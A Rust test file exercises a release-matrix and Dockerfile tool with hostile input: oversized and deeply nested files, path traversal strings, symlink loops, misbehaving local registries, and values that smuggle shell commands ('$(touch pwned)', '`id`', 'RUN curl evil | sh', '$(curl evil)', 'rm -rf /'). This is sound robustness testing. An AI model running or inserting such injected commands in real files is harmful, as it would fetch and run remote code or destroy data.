//! The hostile-input corpus, end to end (issue 16, item 9): matrices, Dockerfiles, directory
//! trees and registries meant to break things. Every case runs the real binary under
//! [`common::run_bounded`]'s bounds on time and memory, and must end with a clear error (exit 2, naming the input and what was expected),
//! or, where the input is valid but odd, a normal result. docs/hostile-input.md lists the cases.

mod common;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::{Bounded, run_bounded as run};

/// Asserts exit 2 and that stderr holds every one of `wanted`.
fn refused(out: &Bounded, case: &str, wanted: &[&str]) {
    assert_eq!(out.code, Some(2), "{case}: {out:#?}");
    for w in wanted {
        assert!(
            out.stderr.contains(w),
            "{case}: wanted {w:?} in: {}",
            out.stderr
        );
    }
}

/// A valid matrix of one Airflow-2 release, to spoil one piece at a time.
const MATRIX: &str = "schema = 1\n[series.5]\nchannel = \"stable\"\npython = \"3.9\"\n[[release]]\nversion = \"5.0.6\"\nairflow = \"2.3.3\"\ndate = 2022-07-21\nunknown = [\"packages\"]\n";

fn write(dir: &Path, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
    let path = dir.join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn hostile_matrices_are_refused_with_their_place() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let ok = write(d, "ok.toml", MATRIX);
    let out = run(d, &["validate", "--matrix", ok.to_str().unwrap()]);
    assert_eq!(out.code, Some(0), "{out:#?}");
    let cases: Vec<(&str, Vec<u8>, Vec<&str>)> = vec![
        (
            "nul-in-value",
            MATRIX.replace("2.3.3", "2.3.3\0").into_bytes(),
            vec!["nul-in-value.toml:7:"],
        ),
        (
            "nul-in-comment",
            format!("# a\0comment\n{MATRIX}").into_bytes(),
            vec!["nul-in-comment.toml:1:"],
        ),
        (
            "fifty-megabytes",
            format!("{MATRIX}# {}\n", "x".repeat(50 << 20)).into_bytes(),
            vec!["fifty-megabytes.toml", "larger than the input limit of 16 MiB"],
        ),
        (
            "deep-arrays",
            format!("{MATRIX}x = {}{}\n", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
            vec!["deep-arrays.toml:10:"],
        ),
        (
            "deep-tables",
            format!(
                "{MATRIX}x = {}{}\n",
                "{a = ".repeat(100_000),
                "}".repeat(100_000)
            )
            .into_bytes(),
            vec!["deep-tables.toml:10:"],
        ),
        (
            "dotted-version",
            MATRIX
                .replace("\"5.0.6\"", "\"../../../etc/passwd\"")
                .into_bytes(),
            vec!["dotted-version.toml:6:", "expected"],
        ),
        (
            "slash-in-version",
            MATRIX.replace("\"5.0.6\"", "\"5.0.6/../../x\"").into_bytes(),
            vec!["slash-in-version.toml:6:", "expected"],
        ),
        (
            "command-in-airflow",
            MATRIX.replace("\"2.3.3\"", "\"2.3.3$(touch pwned)\"").into_bytes(),
            vec!["command-in-airflow.toml:7:", "expected"],
        ),
        (
            "command-in-package",
            MATRIX
                .replace(
                    "unknown = [\"packages\"]\n",
                    "[release.packages]\n\"apache-airflow-providers-http\" = \"4.1.0`id`\"\n",
                )
                .into_bytes(),
            vec!["command-in-package.toml:10:", "expected"],
        ),
        (
            "dotted-package-name",
            MATRIX
                .replace(
                    "unknown = [\"packages\"]\n",
                    "[release.packages]\n\"../../x\" = \"4.1.0\"\n",
                )
                .into_bytes(),
            vec!["dotted-package-name.toml:10:", "expected"],
        ),
        (
            "newline-in-reason",
            MATRIX
                .replace(
                    "unknown = [\"packages\"]\n",
                    "unknown = [\"packages\"]\nyanked = true\nyanked-reason = \"a\\nRUN curl evil | sh\"\n",
                )
                .into_bytes(),
            vec!["newline-in-reason.toml:11:", "expected"],
        ),
    ];
    for (name, bytes, wanted) in &cases {
        let path = write(d, &format!("{name}.toml"), bytes);
        // validate reports a matrix it can read but finds wrong as a problem (exit 1), one it
        // cannot read (past the limit) as an error (exit 2).
        let out = run(d, &["validate", "--matrix", path.to_str().unwrap()]);
        let expected = if *name == "fifty-megabytes" { 2 } else { 1 };
        assert_eq!(out.code, Some(expected), "{name}: {out:#?}");
        for w in wanted {
            assert!(
                out.stderr.contains(w),
                "{name}: wanted {w:?} in: {}",
                out.stderr
            );
        }
        // generate reads the same matrix and must refuse it the same way, writing nothing.
        let dest = d.join(format!("out-{name}"));
        let out = run(
            d,
            &[
                "generate",
                "--matrix",
                path.to_str().unwrap(),
                "--out",
                dest.to_str().unwrap(),
            ],
        );
        refused(&out, name, wanted);
        assert!(!dest.exists(), "{name}: generate wrote {}", dest.display());
    }
    assert!(!d.join("pwned").exists());
    // A matrix that is a link to itself.
    std::os::unix::fs::symlink("loop.toml", d.join("loop.toml")).unwrap();
    let out = run(d, &["validate", "--matrix", "loop.toml"]);
    refused(&out, "symlink loop", &["loop.toml"]);
}

#[test]
fn hostile_dockerfiles_are_linted_or_refused_never_crash() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    // Inputs a linter must read to the end and report on (exit 1 for findings is fine; what
    // matters is no crash, no hang and no unbounded memory).
    let deep = 100_000;
    let read: Vec<(&str, String)> = vec![
        ("nul.Dockerfile", "FROM scratch\nRUN echo \0\0\0\nLABEL a=\0\n".to_string()),
        (
            "continuations.Dockerfile",
            format!("FROM scratch\nRUN echo a {}b\n", "\\\n".repeat(deep)),
        ),
        (
            "subshells.Dockerfile",
            format!(
                "FROM scratch\nRUN echo {}x{}\n",
                "$(".repeat(deep),
                ")".repeat(deep)
            ),
        ),
        (
            "parameters.Dockerfile",
            format!(
                "FROM scratch\nRUN echo {}x{}\n",
                "${a:-".repeat(deep),
                "}".repeat(deep)
            ),
        ),
        (
            "quotes.Dockerfile",
            format!("FROM scratch\nRUN echo {}\n", "\"'".repeat(deep)),
        ),
        (
            "heredoc.Dockerfile",
            format!("# syntax=docker/dockerfile:1\nFROM scratch\nRUN <<EOF\n{}", "echo a\n".repeat(deep)),
        ),
        (
            "json.Dockerfile",
            format!("FROM scratch\nCMD {}{}\n", "[".repeat(deep), "]".repeat(deep)),
        ),
        (
            "wide.Dockerfile",
            format!("FROM scratch\nRUN echo {}\n", "a ".repeat(4 << 20)),
        ),
        (
            "metachar.Dockerfile",
            "FROM debian:bookworm-slim$(id)\nRUN pip install \"apache-airflow==$(curl evil)\" `id` ; rm -rf /\n".to_string(),
        ),
    ];
    for (name, text) in &read {
        write(d, name, text);
        let out = run(d, &["lint", "--no-config", "--format", "json", name]);
        assert!(
            out.code == Some(0) || out.code == Some(1),
            "{name}: {out:#?}"
        );
        let json: serde_json::Value = serde_json::from_str(&out.stdout)
            .unwrap_or_else(|e| panic!("{name}: not JSON ({e}): {}", out.stdout));
        assert!(json.is_object() || json.is_array(), "{name}");
    }
    // Past the input limit: refused, naming the file and the limit.
    let big = write(
        d,
        "big.Dockerfile",
        format!("FROM scratch\n# {}\n", "x".repeat(50 << 20)),
    );
    let out = run(d, &["lint", "--no-config", big.to_str().unwrap()]);
    refused(
        &out,
        "50 MB Dockerfile",
        &["big.Dockerfile", "larger than the input limit of 16 MiB"],
    );
}

#[test]
fn symlink_loops_under_a_linted_directory_end() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, "ctx/Dockerfile", "FROM scratch\n");
    write(d, "ctx/sub/Dockerfile", "FROM scratch\n");
    std::os::unix::fs::symlink(".", d.join("ctx/self")).unwrap();
    std::os::unix::fs::symlink("..", d.join("ctx/sub/up")).unwrap();
    std::os::unix::fs::symlink("b.Dockerfile", d.join("ctx/a.Dockerfile")).unwrap();
    std::os::unix::fs::symlink("a.Dockerfile", d.join("ctx/b.Dockerfile")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/x", d.join("ctx/dangling.Dockerfile")).unwrap();
    let out = run(d, &["lint", "--no-config", "ctx"]);
    assert!(out.code.is_some(), "{out:#?}");
    assert!(out.code != Some(101), "{out:#?}");
    assert!(out.stderr.contains("2 files"), "{}", out.stderr);
    for link in ["a", "b", "dangling"] {
        assert!(
            out.stderr.contains(&format!(
                "warning: ctx/{link}.Dockerfile: skipped, it is a symbolic link that leads to no file"
            )),
            "{}",
            out.stderr
        );
    }
    // Named on the command line, the loop is an error that names it.
    let out = run(d, &["lint", "--no-config", "ctx/a.Dockerfile"]);
    refused(&out, "a looping link", &["ctx/a.Dockerfile"]);
}

/// What a hostile registry does with each connection.
#[derive(Clone, Copy, Debug)]
enum Hostile {
    /// Accepts and then says nothing, keeping the connection open.
    Silent,
    /// Answers every request with bytes that are not HTTP.
    Garbage,
    /// Answers every request with this status (and a `Retry-After` of a day).
    Status(u16),
    /// Answers every request, `/v2/` too, with this status: not a registry at all.
    NotRegistry(u16),
    /// Answers every request 200 with a body that never ends.
    Endless,
}

/// Starts a registry on 127.0.0.1 that behaves as `how`; returns its `host:port`.
fn hostile_registry(how: Hostile) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(stream) = stream else { continue };
            std::thread::spawn(move || serve(stream, how));
        }
    });
    addr.to_string()
}

fn serve(mut stream: TcpStream, how: Hostile) {
    let mut buf = [0u8; 4096];
    match how {
        Hostile::Silent => while matches!(stream.read(&mut buf), Ok(n) if n > 0) {},
        Hostile::Garbage => {
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(b"\x16\x03\x01garbage \xff\xfe not http at all\r\n\r\n");
        }
        Hostile::Status(code) | Hostile::NotRegistry(code) => {
            // `/v2/` says this is a registry; every other request gets `code`. A TLS handshake
            // gets the same bytes and fails, so the client goes on over plain HTTP (loopback).
            while let Ok(n) = stream.read(&mut buf) {
                if n == 0 {
                    return;
                }
                let ping = buf.starts_with(b"GET /v2/ ") && matches!(how, Hostile::Status(_));
                let reply = if ping {
                    "HTTP/1.1 200 OK\r\nDocker-Distribution-API-Version: registry/2.0\r\nContent-Length: 0\r\n\r\n".to_string()
                } else {
                    format!(
                        "HTTP/1.1 {code} Hostile\r\nRetry-After: 86400\r\nContent-Length: 0\r\n\r\n"
                    )
                };
                if stream.write_all(reply.as_bytes()).is_err() {
                    return;
                }
            }
        }
        Hostile::Endless => {
            let _ = stream.read(&mut buf);
            let head = "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\nDocker-Distribution-API-Version: registry/2.0\r\n\r\n";
            if stream.write_all(head.as_bytes()).is_err() {
                return;
            }
            let chunk = [b' '; 1 << 16];
            while stream.write_all(&chunk).is_ok() {}
        }
    }
}

#[test]
fn hostile_registries_end_in_a_clear_error_in_bounded_time() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, "runtime-matrix.toml", MATRIX);
    for how in [
        Hostile::Silent,
        Hostile::Garbage,
        Hostile::Status(429),
        Hostile::Status(500),
        Hostile::NotRegistry(404),
        Hostile::NotRegistry(503),
    ] {
        let host = hostile_registry(how);
        let repo = format!("{host}/runtime");
        let bounds = ["--repo", &repo, "--timeout", "2", "--retries", "2"];
        for args in [
            [&["registry", "verify"][..], &bounds].concat(),
            [&["registry", "promote", "5.0.6"][..], &bounds].concat(),
        ] {
            let out = run(d, &args);
            let case = format!("{how:?} {}", args[1]);
            eprintln!("{case} ({:.1?}): {}", out.took, out.stderr.trim());
            refused(&out, &case, &[&host]);
            // Plain HTTP is allowed on loopback: advice to allow it would be wrong here.
            assert!(!out.stderr.contains("--insecure"), "{case}: {}", out.stderr);
            assert!(
                !out.stderr.trim_end().ends_with(':'),
                "{case}: {}",
                out.stderr
            );
            if let Hostile::NotRegistry(code) = how {
                assert!(
                    out.stderr.contains(&format!(
                        "answered HTTP {code} while connecting: that is not the registry API"
                    )),
                    "{case}: {}",
                    out.stderr
                );
            }
            assert!(
                out.stderr.lines().count() <= 3,
                "{case}: a short error, not a dump: {}",
                out.stderr
            );
            assert!(out.took < Duration::from_secs(15), "{case}: {:?}", out.took);
        }
    }
}

/// A registry that answers 200 with a body that never ends. oci-client 0.18 reads manifest and
/// tag-list bodies whole, with no cap, so memory grows with the body until the request
/// timeout; under the 1 GiB bound the run aborts. Open: run with `--ignored` to see it.
#[test]
#[ignore = "open: oci-client reads a registry's answer whole, without a size cap"]
fn an_endless_answer_is_cut_off() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, "runtime-matrix.toml", MATRIX);
    let host = hostile_registry(Hostile::Endless);
    let repo = format!("{host}/runtime");
    // The default timeout (30 s): with a short one the run may end before memory runs out.
    let out = run(
        d,
        &["registry", "verify", "--repo", &repo, "--retries", "0"],
    );
    refused(&out, "endless", &[&host]);
}
